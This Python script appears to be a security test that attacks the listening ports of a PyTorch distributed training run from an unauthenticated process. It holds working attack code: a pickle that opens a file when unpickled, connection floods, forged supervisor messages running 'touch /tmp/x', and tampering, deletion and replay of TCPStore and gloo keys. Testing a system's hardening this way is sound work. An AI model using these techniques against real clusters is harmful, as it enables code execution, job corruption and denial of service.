"""Attacks every listening port of a run from a process that does not know the run's secret.

Standard input names listeners, one `address port` per line. A thread per listener repeats the attacks named on the
command line until the listener is gone. It prints a line per attack: time, address, port and attack. The first argument
is the path of a file that malicious pickles create. The process ends when standard input closes.
"""

import contextlib
import os
import pickle
import secrets
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from datetime import timedelta
from typing import Any

PAUSE_SECONDS = 0.03
CONNECT_SECONDS = 2.0
_IDLE_PER_PORT = 40
_MANY_PER_PORT = 3000
_SET, _GET, _VALIDATE = 1, 3, 0  # of torch's protocol
_MAGIC = 0x3C85F7CE


class Bomb:
    """Creates a file when unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.path, "w")


class Stranger:
    """Attacks one listener."""

    def __init__(self, bomb: str, address: str, port: int) -> None:
        self._bomb, self._where = pickle.dumps(Bomb(bomb)), (address, port)
        self._held: list[socket.socket] = []
        self._client: Any = None
        self._first_values: dict[str, bytes] = {}

    def _send(self, *contents: bytes, answer: bool = True) -> bytes:
        with socket.create_connection(self._where, timeout=CONNECT_SECONDS) as connection:
            connection.settimeout(0.1)
            for content in contents:
                connection.sendall(content)
            with contextlib.suppress(TimeoutError):
                return connection.recv(4096) if answer else b""
        return b""

    # Bytes that are no message, or half of one.

    def random(self) -> None:
        """Sends random bytes."""
        self._send(secrets.token_bytes(secrets.randbelow(8192)))

    def pickles(self) -> None:
        """Sends a pickle that creates a file: plain, after its length, and as a line."""
        self._send(self._bomb)
        self._send(struct.pack("<Q", len(self._bomb)) + self._bomb)
        self._send(self._bomb.replace(b"\n", b" ") + b"\n")

    def half(self) -> None:
        """Sends half a message of torch's store and keeps the connection open; also sends a key of absurd length."""
        if len(self._held) < _IDLE_PER_PORT:
            connection = socket.create_connection(self._where, timeout=CONNECT_SECONDS)
            connection.sendall(struct.pack("<BI", _VALIDATE, _MAGIC) + struct.pack("<BQ", _SET, 100) + b"half of a key")
            self._held.append(connection)
        self._send(struct.pack("<BI", _VALIDATE, _MAGIC) + struct.pack("<BQ", _GET, 1 << 50))

    def idle(self) -> None:
        """Opens a connection and sends nothing."""
        if len(self._held) < _IDLE_PER_PORT:
            self._held.append(socket.create_connection(self._where, timeout=CONNECT_SECONDS))

    def many(self) -> None:
        """Opens thousands of connections."""
        while len(self._held) < _MANY_PER_PORT:
            self._held.append(socket.create_connection(self._where, timeout=CONNECT_SECONDS))

    def guard(self) -> None:
        """Speaks the supervisor's protocol without the token, first as a guard and then as a supervisor."""
        register = (
            b'{"kind": "Register", "rank": 1, "local_rank": 0, "host": "node1", "pid": 1, "address": "10.1.0.3", '
        )
        register += b'"free_port": 80}\n'
        start = b'{"kind": "Start", "command": ["touch", "/tmp/x"], "environment": {}, "folder": "/", "log": "/tmp/y", '
        start += b'"send_output": true}\n'
        self._send(register)
        self._send(b"00" * 16 + b"\n" + b"0" * 64 + b"\n" + register)
        self._send(b"00" * 16 + b"\n" + start + b'{"kind": "Kill"}\n')

    # Valid messages of torch's store.

    def read(self) -> None:
        """Reads everything in the store."""
        for key in self._keys():
            self._store().get(key)
        self._store().num_keys()

    def write(self) -> None:
        """Writes values, counters and comparisons under new names, and deletes them."""
        store = self._store()
        for number in range(10):
            store.set(f"stranger/{number}", self._bomb)
            store.add(f"counter/{number}", 1)
            store.compare_set(f"compared/{number}", "", "stranger")
            store.delete_key(f"stranger/{number}")

    def overwrite(self) -> None:
        """Overwrites all values in the store."""
        for key in self._keys():
            self._store().set(key, self._bomb)

    def overwrite_ranks(self) -> None:
        """Takes the place of a missing rank, and answers instead of rank 0."""
        values = [b'{"address": "10.1.0.3", "host": "node1", "nonce": "00", "cores": [0], "software": {}}', self._bomb]
        for key in ("rank/0", "rank/1", "answer", "challenge"):
            for value in values:
                self._store().set(f"run/0/{key}", value)

    def overwrite_verdict(self) -> None:
        """Writes into the store that the run has failed, and that ranks are well."""
        for key in self._keys():
            if key.endswith(("failure", "reported", "beats_requested")):
                self._store().set(key, '["rank 1 failed: a lie", false]')

    def overwrite_addresses(self) -> None:
        """Overwrites the addresses at which gloo's ranks connect to each other."""
        for key in self._keys():
            if "watchdog" not in key and not key.endswith(("rank/1", "answer", "challenge")):
                self._store().set(key, self._bomb)

    def count(self) -> None:
        """Adds to all keys as if they were counters, and compares and sets them."""
        for key in self._keys():
            with contextlib.suppress(Exception):
                self._store().add(key, 1)
            with contextlib.suppress(Exception):
                self._store().compare_set(key, "1", "2")

    def delete(self) -> None:
        """Deletes all keys of the store."""
        for key in self._keys():
            self._store().delete_key(key)

    def replay(self) -> None:
        """Rewrites the oldest value of every key, which has a valid digest."""
        for key in self._keys():
            self._first_values.setdefault(key, self._store().get(key))
        for key, value in self._first_values.items():
            self._store().set(key, value)

    # Messages of gloo.

    def sequence(self) -> None:
        """Guesses the sequence numbers by which gloo's ranks identify themselves, and sends random bytes after them."""
        for number in range(16):
            with contextlib.suppress(TimeoutError):
                connection = socket.create_connection(self._where, timeout=CONNECT_SECONDS)
                connection.sendall(struct.pack("<q", number) + secrets.token_bytes(64))
                self._held.append(connection)
        for connection in self._held[:-200]:
            connection.close()
        del self._held[:-200]

    def _store(self) -> Any:
        if self._client is None:
            import torch.distributed as dist

            self._client = dist.TCPStore(*self._where, is_master=False, timeout=timedelta(seconds=CONNECT_SECONDS))
        return self._client

    def _keys(self) -> list[str]:
        return list(self._store().list_keys())

    def attack(self, names: list[str], report: Callable[[str], None]) -> None:
        """Repeats attacks until the listener is gone."""
        while True:
            for name in names:
                try:
                    getattr(self, name)()
                    report(name)
                except ConnectionRefusedError:
                    return
                except Exception:  # closed, or not a store
                    self._client = None
                    time.sleep(PAUSE_SECONDS)
            time.sleep(PAUSE_SECONDS)


def main() -> None:
    """Attacks the listeners named on standard input."""
    import torch.distributed  # noqa: F401 # takes seconds, before the run starts

    bomb, names = sys.argv[1], sys.argv[2:]
    print("ready", flush=True)
    for line in sys.stdin:
        address, port = line.split()

        def report(name: str, where: str = line.strip()) -> None:
            print(f"{time.time()} {where} {name}", flush=True)

        stranger = Stranger(bomb, address, int(port))
        threading.Thread(target=stranger.attack, args=(names, report), daemon=True).start()
    os._exit(0)


if __name__ == "__main__":
    main()
